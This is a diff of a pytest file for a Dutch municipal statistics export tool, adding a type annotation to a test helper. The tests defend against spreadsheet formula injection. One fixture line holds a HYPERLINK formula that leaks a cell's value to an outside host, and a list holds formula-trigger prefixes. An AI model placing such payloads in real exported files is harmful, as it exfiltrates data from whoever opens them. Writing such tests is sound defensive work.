@@ -13,13 +13,13 @@ import pytest
 from bemoeizorg.domain.suppression import CountTable
 from bemoeizorg.exports.cells import csv_row, csv_value, starts_like_formula
 from bemoeizorg.exports.counts import Counts, Period
-from bemoeizorg.exports.counts_export import csv_bytes, publish, xlsx_bytes
+from bemoeizorg.exports.counts_export import Publication, csv_bytes, publish, xlsx_bytes
 
 EVIL = '=HYPERLINK("http://x"&B3)'
 STARTS = ["=1+1", "+31 6", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
 
 
-def _publication(title: str, label: str, note: str):  # type: ignore[no-untyped-def]
+def _publication(title: str, label: str, note: str) -> Publication:
     codes = ("GM0957", "GM0988")  # Roermond, Weert
     period = Period(date(2025, 1, 1), date(2025, 12, 31))
     values = {("GM0957", "a"): 12, ("GM0988", "a"): 7, ("GM0957", "b"): 9, ("GM0988", "b"): 30}
